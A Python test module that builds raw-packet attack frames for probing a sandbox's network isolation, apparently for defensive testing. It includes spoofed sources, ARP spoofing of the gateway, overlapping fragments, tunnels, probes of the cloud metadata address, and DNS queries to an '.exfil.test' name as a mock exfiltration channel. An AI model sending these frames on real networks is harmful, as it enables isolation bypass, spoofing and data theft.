"""Owns: the table of packet attacks: a name, and the frames that a sandbox with raw sockets sends.

Pure: a `Field` says who is where, each vector makes bytes. None of them may ever be seen on a link
other than the attacker's own.
"""

import itertools
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from attacks import packets as p

GATEWAY: Final = "169.254.77.1"
PUBLIC: Final = "198.51.100.7"
OTHER_RESOLVER: Final = "8.8.8.8"
HUB_PORTS: Final = (53, 80, 443, 5353, 8443, 9997)


@dataclass(frozen=True, slots=True)
class Field:
    """Who is where, as the attacker may know it.

    Attributes:
        me, mac: the attacker's own address and the hardware address of its link.
        hub_mac: hardware address of the hub's end of that link.
        neighbour, neighbour_mac: another sandbox.
        allowed: a private address that stands for an allowed name, on port 5432.
        host: an address of the host.
    """

    me: str
    mac: bytes
    hub_mac: bytes
    neighbour: str
    neighbour_mac: bytes
    allowed: str
    host: str

    def frame(self, packet: bytes, kind: int = p.ETH_IPV4) -> bytes:
        """A packet to the hub, as eth0 would send it."""
        return p.ethernet(self.hub_mac, self.mac, kind, packet)


Vector = Callable[[Field, bytes], list[bytes]]

VECTORS: Final[dict[str, Vector]] = {}


def vector(function: Vector) -> Vector:
    """Register a vector under its function's name."""
    VECTORS[function.__name__] = function
    return function


def elsewhere(field: Field) -> Iterator[str]:
    """Every kind of place that is not the door."""
    yield from (PUBLIC, OTHER_RESOLVER, field.neighbour, field.host, GATEWAY)
    yield from ("198.18.0.77", "10.99.0.5", "169.254.169.254", "192.0.2.254")


@vector
def udp_anywhere(field: Field, tag: bytes) -> list[bytes]:
    return [
        field.frame(p.ipv4(field.me, dst, p.UDP, p.udp(field.me, dst, 4711, port, tag)))
        for dst in elsewhere(field)
        for port in (443, 4500, 123, 67, 5353, 9997)
    ]


@vector
def tcp_syn_anywhere(field: Field, tag: bytes) -> list[bytes]:
    return [
        field.frame(p.ipv4(field.me, dst, p.TCP, p.tcp(field.me, dst, 4711, port, p.SYN, tag)))
        for dst in elsewhere(field)
        for port in (22, 80, 443, 853, 9998)
    ]


@vector
def tcp_odd_flags(field: Field, tag: bytes) -> list[bytes]:
    combinations = [0, p.ACK, p.FIN, p.SYN | p.ACK, p.FIN | p.PSH | p.URG, p.RST, p.SYN | p.FIN]
    return [
        field.frame(p.ipv4(field.me, dst, p.TCP, p.tcp(field.me, dst, 4712, 443, flags, tag)))
        for dst in (PUBLIC, field.neighbour, GATEWAY)
        for flags in combinations
    ]


@vector
def udplite(field: Field, tag: bytes) -> list[bytes]:
    return [
        field.frame(p.ipv4(field.me, dst, p.UDPLITE, p.udplite(field.me, dst, 4711, port, tag)))
        for dst in elsewhere(field)
        for port in (53, 443, 9997)
    ]


@vector
def other_protocols(field: Field, tag: bytes) -> list[bytes]:
    numbers = [0, p.IGMP, p.IPIP, p.DCCP, p.SIX, p.GRE, p.ESP, p.AH, p.OSPF, p.VRRP, p.SCTP]
    numbers += [p.EXPERIMENTAL, p.RAW, p.ICMPV6, 103, 115]
    return [
        field.frame(p.ipv4(field.me, dst, number, b"\0" * 8 + tag))
        for dst in (PUBLIC, field.neighbour, field.host, GATEWAY)
        for number in numbers
    ]


@vector
def tunnels(field: Field, tag: bytes) -> list[bytes]:
    inner = p.ipv4(field.me, PUBLIC, p.UDP, p.udp(field.me, PUBLIC, 1, 9, tag))
    six = p.ipv6("2001:db8::66", "2001:db8:1::1", p.UDP, b"\0\1\0\1\0\x08\0\0" + tag)
    gre = struct.pack("!HH", 0, p.ETH_IPV4) + inner
    return [
        field.frame(p.ipv4(field.me, dst, number, payload))
        for dst in (PUBLIC, field.neighbour, GATEWAY, "192.88.99.1")
        for number, payload in ((p.IPIP, inner), (p.SIX, six), (p.GRE, gre))
    ]


@vector
def icmp(field: Field, tag: bytes) -> list[bytes]:
    quoted = p.ipv4(field.neighbour, field.allowed, p.TCP, b"\0" * 8)
    messages = [
        p.icmp(8, 0, struct.pack("!HH", 1, 1) + tag),  # echo
        p.icmp(13, 0, b"\0" * 16 + tag),  # timestamp
        p.icmp(17, 0, b"\0" * 8 + tag),  # mask
        p.icmp(5, 1, b"\x0a\0\0\1" + quoted + tag),  # redirect
        p.icmp(9, 0, b"\1\2\0\x10" + b"\x0a\0\0\1\0\0\0\0" + tag),  # router advertisement
        p.icmp(3, 4, struct.pack("!HH", 0, 552) + quoted + tag),  # fragmentation needed
        p.icmp(3, 1, b"\0" * 4 + quoted + tag),
        p.icmp(11, 0, b"\0" * 4 + quoted + tag),
        p.icmp(42, 0, b"\0" * 4 + tag),
    ]
    return [
        field.frame(p.ipv4(field.me, dst, p.ICMP, message))
        for dst in (PUBLIC, field.neighbour, field.host, GATEWAY, field.allowed)
        for message in messages
    ]


@vector
def sctp(field: Field, tag: bytes) -> list[bytes]:
    return [
        field.frame(p.ipv4(field.me, dst, p.SCTP, p.sctp_init(4711, 443, tag)))
        for dst in elsewhere(field)
    ]


@vector
def spoofed_source(field: Field, tag: bytes) -> list[bytes]:
    sources = [field.neighbour, GATEWAY, "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1"]
    sources += [field.host, PUBLIC, "10.77.255.254"]
    frames = []
    for src, dst in itertools.product(sources, (PUBLIC, field.neighbour, GATEWAY, field.allowed)):
        frames.append(field.frame(p.ipv4(src, dst, p.UDP, p.udp(src, dst, 5, 53, tag))))
        frames.append(field.frame(p.ipv4(src, dst, p.TCP, p.tcp(src, dst, 5, 5432, p.SYN, tag))))
        frames.append(field.frame(p.ipv4(src, dst, p.TCP, p.tcp(src, dst, 5, 5432, p.RST, tag))))
    return frames


@vector
def hub_ports(field: Field, tag: bytes) -> list[bytes]:
    places = (GATEWAY, field.allowed, PUBLIC, "127.0.0.1", "198.18.0.1")
    return [
        field.frame(p.ipv4(field.me, dst, p.TCP, p.tcp(field.me, dst, 6, port, p.SYN, tag)))
        for dst in places
        for port in HUB_PORTS
        if port != 53
    ]


@vector
def loopback_and_broadcast(field: Field, tag: bytes) -> list[bytes]:
    places = ("127.0.0.1", "127.8.8.8", "0.0.0.0", "255.255.255.255", "10.77.255.255")
    places += ("224.0.0.1", "224.0.0.251", "239.255.255.250")
    return [
        field.frame(p.ipv4(field.me, dst, p.UDP, p.udp(field.me, dst, 7, port, tag)))
        for dst in places
        for port in (67, 5353, 1900, 9997)
    ]


@vector
def fragments(field: Field, tag: bytes) -> list[bytes]:
    whole = p.udp(field.me, PUBLIC, 8, 9997, b"x" * 24 + tag)
    first = whole[:24]
    rest = whole[24:]
    return [
        # in order, a lone tail, a tiny first one, an overlap that rewrites the port
        field.frame(p.ipv4(field.me, PUBLIC, p.UDP, first, fragment=p.MORE_FRAGMENTS, ident=1)),
        field.frame(p.ipv4(field.me, PUBLIC, p.UDP, rest, fragment=3, ident=1)),
        field.frame(p.ipv4(field.me, field.neighbour, p.UDP, rest, fragment=3, ident=2)),
        field.frame(p.ipv4(field.me, PUBLIC, p.TCP, tag[:8], fragment=p.MORE_FRAGMENTS, ident=3)),
        field.frame(
            p.ipv4(field.me, GATEWAY, p.UDP, whole[:16], fragment=p.MORE_FRAGMENTS, ident=4)
        ),
        field.frame(p.ipv4(field.me, GATEWAY, p.UDP, whole, fragment=0, ident=4)),
    ]


@vector
def ip_options(field: Field, tag: bytes) -> list[bytes]:
    hop = bytes(map(int, GATEWAY.split(".")))
    options = [
        b"\x83\x07\x04" + hop + b"\0",  # loose source route
        b"\x89\x07\x04" + hop + b"\0",  # strict source route
        b"\x07\x07\x04" + b"\0" * 5,  # record route
        b"\x44\x08\x05\0" + b"\0" * 4,  # timestamp
        b"\x94\x04\0\0",  # router alert
        b"\x86\x06\0\0\0\1\0\0",  # CIPSO
        b"\x83\xff\x04",  # a length that is not there
    ]
    return [
        field.frame(p.ipv4(field.me, dst, p.UDP, p.udp(field.me, dst, 9, 443, tag), options=option))
        for dst in (PUBLIC, field.neighbour, GATEWAY)
        for option in options
    ]


@vector
def ipv6(field: Field, tag: bytes) -> list[bytes]:
    places = ("2001:db8:1::1", "fe80::1", "ff02::1", "::1", "2001:db8::1", "::ffff:10.99.0.5")
    body = struct.pack("!HHHH", 10, 53, 8 + len(tag), 0) + tag
    return [
        field.frame(p.ipv6(src, dst, following, body), p.ETH_IPV6)
        for src in ("fe80::66", "2001:db8::66", "::")
        for dst in places
        for following in (p.UDP, p.TCP, p.ICMPV6, 0, 44)
    ]


@vector
def link_layer(field: Field, tag: bytes) -> list[bytes]:
    packet = p.ipv4(field.me, PUBLIC, p.UDP, p.udp(field.me, PUBLIC, 11, 443, tag))
    spoofed = p.ipv4(field.neighbour, PUBLIC, p.UDP, p.udp(field.neighbour, PUBLIC, 1, 53, tag))
    kinds = (0x8847, 0x8864, 0x888E, 0x88CC, 0x8137, 0x88E5, 0x894F, 0x0842)
    tagged = [struct.pack("!HH", number, p.ETH_IPV4) for number in (0, 5, 4095)]
    frames = [field.frame(b"\0" * 4 + tag, kind) for kind in kinds]
    frames += [
        field.frame(tag_ + body, p.ETH_VLAN) for tag_ in tagged for body in (packet, spoofed)
    ]
    for dst in (field.neighbour_mac, p.BROADCAST_MAC, b"\1\0\x5e\0\0\1"):
        frames.append(p.ethernet(dst, field.mac, p.ETH_IPV4, packet))
    for src in (field.neighbour_mac, field.hub_mac):
        frames.append(p.ethernet(field.hub_mac, src, p.ETH_IPV4, packet))
    return frames


@vector
def arp(field: Field, tag: bytes) -> list[bytes]:
    wanted = (field.neighbour, PUBLIC, "127.0.0.1", field.host, "198.18.0.1")
    packets = [p.arp(1, field.mac, field.me, b"\0" * 6, target) for target in wanted]
    packets += [
        p.arp(2, field.mac, claimed, p.BROADCAST_MAC, claimed)
        for claimed in (field.neighbour, GATEWAY, field.host)
    ]
    return [p.ethernet(p.BROADCAST_MAC, field.mac, p.ETH_ARP, body + tag) for body in packets]


@vector
def other_resolvers(field: Field, tag: bytes) -> list[bytes]:
    name = f"{tag.decode()}.exfil.test"
    query = p.dns_query(name)
    return [
        field.frame(p.ipv4(field.me, dst, p.UDP, p.udp(field.me, dst, 12, 53, query)))
        for dst in elsewhere(field)
    ]
